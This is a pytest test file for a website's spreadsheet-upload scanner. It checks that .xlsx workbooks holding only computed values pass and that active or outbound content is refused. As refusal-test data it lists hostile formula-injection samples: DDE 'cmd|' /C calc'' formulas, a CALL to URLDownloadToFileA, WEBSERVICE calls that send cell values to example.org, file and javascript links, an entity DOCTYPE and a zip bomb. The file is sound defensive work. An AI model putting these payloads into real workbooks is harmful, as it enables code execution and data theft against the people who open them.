"""Workbooks show numbers: nothing in them runs, fetches, or is another file."""

from collections.abc import Mapping
from io import BytesIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings, strategies as st
from openpyxl.comments import Comment

from emn_site.content.assets import judge_asset

FOLDER = "application/vnd.openxmlformats-officedocument."
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SHEET = "xl/worksheets/sheet1.xml"


def _workbook(**cells: str) -> bytes:
    """A workbook as Excel would write it, by openpyxl."""
    book, file = openpyxl.Workbook(), BytesIO()
    sheet: Any = book.active
    for cell, value in ({"A1": "Lietuva", "B1": "5"} | cells).items():
        sheet[cell] = value
    book.save(file)
    return file.getvalue()


def _full() -> bytes:
    """A workbook with all that shows numbers, by XlsxWriter."""
    file = BytesIO()
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet("Skaičiai")
        sheet.write_row(0, 0, ["Lietuva", 5, 7])
        sheet.write_formula("D1", '=SUM(B1:C1)*1.5&"WEBSERVICE(|)"')
        sheet.write_dynamic_array_formula("E1", "=UNIQUE(A1:A9)")
        sheet.write_url("A5", "https://www.emn.lt/")
        sheet.write_url("A6", "internal:'Skaičiai'!A1")
        sheet.write_url("A7", "mailto:a@b.lt")
        sheet.write_comment("A1", "Pastaba")
        sheet.data_validation("F1", {"validate": "list", "source": ["a", "b"]})
        sheet.conditional_format("B1:B9", {"type": "data_bar", "data_bar_2010": True})
        sheet.add_table("H1:I4")
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Skaičiai!$B$1:$C$1"})
        sheet.insert_chart("K1", chart)
        book.define_name("sritis", "=Skaičiai!$A$1:$C$1")
        book.set_properties({"author": "EMN"})
    return file.getvalue()


def _with(parts: Mapping[str, str | bytes], content: bytes | None = None) -> bytes:
    """A workbook with some of its parts put in the place of others, or added."""
    file = BytesIO()
    with ZipFile(BytesIO(content or _workbook())) as packed, ZipFile(file, "w", ZIP_DEFLATED) as written:
        for name in packed.namelist():
            if name not in parts:
                written.writestr(name, packed.read(name))
        for name, part in parts.items():
            written.writestr(name, part)
    return file.getvalue()


def _changed(name: str, old: str, new: str) -> bytes:
    with ZipFile(BytesIO(_workbook())) as packed:
        text = packed.read(name).decode()
    assert old in text
    return _with({name: text.replace(old, new, 1)})


def _with_part(name: str, kind: str, body: str = "<x/>") -> bytes:
    entry = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    return _with({name: body}, _changed("[Content_Types].xml", "</Types>", entry))


def _leading(kind: str, target: str, mode: str = "External") -> bytes:
    markup = (
        f'<Relationship Id="r9" Type="{KINDS}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return _changed("xl/_rels/workbook.xml.rels", "</Relationships>", markup)


def _codes(content: bytes) -> set[str]:
    return {found.code for found in judge_asset("a.xlsx", content).findings}


def _values(content: bytes) -> list[str]:
    judged = judge_asset("a.xlsx", content).findings
    assert {found.code for found in judged} == {"asset-script"}
    return [dict(found.values)["value"] for found in judged]


def _commented() -> bytes:
    book, file = openpyxl.Workbook(), BytesIO()
    sheet: Any = book.active
    sheet["A1"].comment = Comment("Pastaba", "EMN")
    sheet["A1"].hyperlink = "https://www.emn.lt/"
    book.save(file)
    return file.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        _workbook(),
        _full(),
        _commented(),
        _leading("hyperlink", "https://www.emn.lt/a?b#c"),
        _leading("hyperlink", "mailto:a@b.lt"),
        _with_part("xl/printerSettings/printerSettings1.bin", f"{FOLDER}spreadsheetml.printerSettings", "\0"),
        _with_part("customXml/itemProps1.xml", f"{FOLDER}customXmlProperties+xml"),
        _with_part("docMetadata/LabelInfo.xml", "application/vnd.ms-office.classificationlabels+xml"),
    ],
    ids=["openpyxl", "XlsxWriter", "comment", "web", "mail", "printer", "properties", "label"],
)
def test_what_programs_write_into_a_workbook_passes(content: bytes) -> None:
    assert judge_asset("a.xlsx", content).findings == ()


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(A1:B2)",
        '=HYPERLINK("https://www.emn.lt/","EMN")',
        '=HYPERLINK("#Sheet!A1")',
        "=CALLS!A1+'CALL(x)|y'!A1",
        '="CALL(1)|"',
        "=_xlfn.XLOOKUP(A1,B:B,C:C)",
        "=IMAGES(1)",
        "=SUM(Table1[[#This Row],[a b]])+Table1[a]+'2023–2024 | LT'!B1+'a''b'!A1",
        '="\\\\host\\[b.xlsx]A!"&"a/b"',
    ],
)
def test_formulas_that_compute_pass(formula: str) -> None:
    assert _codes(_workbook(C1=formula)) == set()


@pytest.mark.parametrize(
    ("formula", "name"),
    [
        ('=WEBSERVICE("https://example.org/?"&A1)', "WEBSERVICE"),
        ('=_xlfn.WEBSERVICE("https://example.org")', "WEBSERVICE"),
        ('=1+webservice ("https://example.org")', "WEBSERVICE"),
        ('=COM.MICROSOFT.WEBSERVICE("https://example.org")', "WEBSERVICE"),
        ('=IF(A1,IMPORTDATA("https://example.org"),1)', "IMPORTDATA"),
        ('=IMPORTXML("https://example.org","/")', "IMPORTXML"),
        ('=_xlfn.IMAGE("https://example.org/x.png")', "IMAGE"),
        ('=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"x","y",0,0)', "CALL"),
        ('=REGISTER.ID("kernel32","x")', "REGISTER.ID"),
        ('=RTD("x",,"y")', "RTD"),
        ('=DDE("x","y","z")', "DDE"),
        ("=cmd|' /C calc'!A0", "DDE"),
        ("=1+cmd|'/C calc'!A0", "DDE"),
        ('=HYPERLINK("https://example.org/?"&A1,"x")', "HYPERLINK"),
        ('=HYPERLINK("file:///C:/a.exe","x")', "HYPERLINK"),
        ("=HYPERLINK(A1)", "HYPERLINK"),
        ("=_xll.ADDED(1)", "_xll.ADDED"),
        ("=1+'\\\\host\\[b.xlsx]A'!A1", "'\\\\host\\[b.xlsx]A'"),
        ("='https://e.lt/[b]A'!A1", "'https://e.lt/[b]A'"),
        ("=SUM([b.xlsx]A!A1)", "[b.xlsx]A!"),
        ("=[1]!name", "[1]!"),
    ],
)
def test_a_formula_that_calls_out_is_refused_with_its_cell(formula: str, name: str) -> None:
    assert _values(_workbook(C2=formula)) == [f"{name} ({SHEET}, C2)"]


def test_a_formula_of_a_name_is_judged_too() -> None:
    names = '<definedNames><definedName name="x">WEBSERVICE("a")</definedName></definedNames>'

    assert _values(_changed("xl/workbook.xml", "</workbook>", f"{names}</workbook>")) == [
        "WEBSERVICE (xl/workbook.xml)"
    ]


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
        ("xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.intlmacrosheet+xml"),
        ("xl/dialogsheets/sheet1.xml", f"{FOLDER}spreadsheetml.dialogsheet+xml"),
        ("xl/externalLinks/externalLink1.xml", f"{FOLDER}spreadsheetml.externalLink+xml"),
        ("xl/connections.xml", f"{FOLDER}spreadsheetml.connections+xml"),
        ("xl/queryTables/queryTable1.xml", f"{FOLDER}spreadsheetml.queryTable+xml"),
        ("xl/volatileDependencies.xml", f"{FOLDER}spreadsheetml.volatileDependencies+xml"),
        ("xl/xmlMaps.xml", "application/xml+maps"),
        ("xl/embeddings/oleObject1.bin", f"{FOLDER}oleObject"),
        ("xl/embeddings/book.xlsx", f"{FOLDER}spreadsheetml.sheet"),
        ("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        ("xl/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml"),
        ("xl/worksheets/binary.bin", "application/vnd.ms-excel.worksheet"),
        ("a.exe", "application/octet-stream"),
    ],
)
def test_parts_that_run_or_fetch_are_refused_by_name(name: str, kind: str) -> None:
    assert name in _values(_with_part(name, kind))


def test_a_part_that_is_said_to_be_nothing_is_refused() -> None:
    assert _values(_with({"customUI/customUI.bin": "x"})) == ["customUI/customUI.bin"]


@pytest.mark.parametrize(
    ("kind", "target", "mode"),
    [
        ("hyperlink", "file:///C:/a.exe", "External"),
        ("hyperlink", "javascript:x", "External"),
        ("hyperlink", "other.xlsx", "External"),
        ("image", "https://example.org/x.png", "External"),
        ("externalLinkPath", "https://example.org/x.xlsx", "External"),
        ("attachedTemplate", "https://example.org/x", "external"),
        ("oleObject", "https://example.org/x", "External"),
        ("worksheet", "https://example.org/x", "Internal"),
        ("worksheet", "worksheets/none.xml", "Internal"),
        ("xlMacrosheet", "worksheets/sheet1.xml", "Internal"),
        ("ui", "worksheets/sheet1.xml", "Internal"),
    ],
)
def test_what_leads_out_of_a_workbook_is_refused(kind: str, target: str, mode: str) -> None:
    assert _values(_leading(kind, target, mode)) == [f"{kind} {target}"]


@pytest.mark.parametrize(
    "inside",
    [
        "<oleObjects><oleObject/></oleObjects>",
        "<controls><control/></controls>",
        '<sp macro="[0]!Run"/>',
        "<ddeLink/>",
        "<webPublishItems><webPublishItem/></webPublishItems>",
    ],
)
def test_elements_that_run_or_fetch_are_refused(inside: str) -> None:
    assert _values(_changed(SHEET, "</worksheet>", f"{inside}</worksheet>"))


def _bomb(size: int) -> bytes:
    return _with({"xl/worksheets/sheet2.xml": b" " * size})


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"PK",
        b"x" + _workbook(),
        _workbook() + b"<script>x</script>",
        _workbook()[:2000],
        _with({"xl/workbook.xml": "<x"}),
        _with({"xl/workbook.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
        _with({"[Content_Types].xml": "<Types/>"}),
        _bomb(250_000_000),
        _with({SHEET: f"<x><f>{'1+' * 20_000}</f></x>"}),
        _with({f"x{number}.xml": "" for number in range(6000)}),
    ],
    ids=[
        "empty",
        "short",
        "before",
        "behind",
        "cut",
        "no tree",
        "entity",
        "no types",
        "large",
        "long",
        "many",
    ],
)
def test_what_is_no_workbook_is_refused(content: bytes) -> None:
    assert "asset-broken" in _codes(content)


def test_a_locked_workbook_is_refused_as_one() -> None:
    assert _codes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)) == {"asset-encrypted"}


@settings(deadline=None)
@given(place=st.integers(0, 100_000), value=st.integers(0, 255))
def test_a_changed_byte_is_a_judgement_and_never_a_fault(place: int, value: int) -> None:
    content = bytearray(_workbook())
    content[place % len(content)] = value

    judge_asset("a.xlsx", bytes(content))
